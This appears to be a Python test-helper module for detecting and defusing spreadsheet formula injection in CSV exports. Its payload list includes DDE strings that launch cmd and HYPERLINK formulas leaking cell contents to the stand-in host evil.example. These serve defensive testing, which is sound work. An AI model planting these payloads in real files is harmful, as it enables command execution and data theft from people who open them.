"""Text that a spreadsheet would run as a formula, and how to look for it."""

import csv
import io

from practice_library.spreadsheets import FORMULA_STARTS

# What a hostile visitor types where a curator's spreadsheet will show it:
# the payloads of issue 14, and each formula start in its full-width form.
PAYLOADS = [
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "-1+1+cmd|' /C calc'!A0",
    "-2+3",
    "+SUM(A1:A2)",
    "@SUM(1)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # ＝
    "\uff0bSUM(A1:A2)",  # ＋
    "\uff0d2+3",  # －
    "\uff20SUM(1)",  # ＠
]


def csv_cells(text: str) -> list[str]:
    """Every cell of a CSV text (a byte order mark before it is dropped)."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    return [cell for row in rows for cell in row]


def live_formulas(cells: list[str]) -> list[str]:
    """The cells a spreadsheet program would run as formulas."""
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def defused(cells: list[str]) -> set[str]:
    """The payloads that appear in ``cells`` made plain text: apostrophe first."""
    return {payload for payload in PAYLOADS if "'" + payload in cells}
